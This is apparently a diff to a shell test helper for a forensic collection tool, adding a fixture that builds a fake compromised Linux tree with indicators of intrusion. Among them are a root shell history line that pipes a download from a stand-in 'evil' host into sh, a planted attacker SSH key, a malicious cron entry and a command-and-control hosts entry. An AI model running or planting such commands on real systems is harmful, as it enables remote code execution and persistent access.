@@ -29,3 +29,30 @@ check_rc() {
 }
 # stderr of the last check_rc contains a string
 last_err_has() { grep -qF -- "$1" "$T/.err"; }
+
+# make_fixture DIR: a small dead-box tree with known content and times.
+make_fixture() {
+	f=$1
+	mkdir -p "$f/etc/ssh" "$f/etc/cron.d" "$f/var/log" "$f/root/.ssh" \
+		"$f/home/alice" "$f/tmp"
+	printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n' >"$f/etc/passwd"
+	printf 'root:x:0:\nalice:x:1000:\n' >"$f/etc/group"
+	printf 'fixture-host\n' >"$f/etc/hostname"
+	printf '127.0.0.1 localhost\n10.0.0.5 c2.example\n' >"$f/etc/hosts"
+	printf 'PRETTY_NAME="Fixture Linux 1"\nID=fixture\n' >"$f/etc/os-release"
+	printf '* * * * * root /tmp/.x/run\n' >"$f/etc/cron.d/evil"
+	printf 'PermitRootLogin yes\n' >"$f/etc/ssh/sshd_config"
+	head -c 300000 /dev/urandom | base64 >"$f/var/log/auth.log"
+	printf 'Nov 22 10:00:00 fixture-host kernel: boot\n' >"$f/var/log/syslog"
+	printf 'ssh-ed25519 AAAAC3Nza attacker@evil\n' >"$f/root/.ssh/authorized_keys"
+	printf 'curl http://evil/x | sh\n' >"$f/root/.bash_history"
+	printf 'ls\n' >"$f/home/alice/.bash_history"
+	touch -m -d '2024-03-01 12:34:56 UTC' "$f/var/log/auth.log"
+	touch -m -d '2023-01-02 03:04:05 UTC' "$f/etc/hosts"
+	touch -a -d '2020-01-01 00:00:00 UTC' "$f/etc/hosts" "$f/var/log/auth.log"
+}
+
+# run_ok OUT ARGS...: run the agent, output in OUT; PASS/FAIL on exit 0.
+archive_in() { ls "$1"/*.tar.zst 2>/dev/null | head -n 1; }
+# jqe ARGS: jq -e, quiet.
+jqe() { jq -e "$@" >/dev/null 2>&1; }
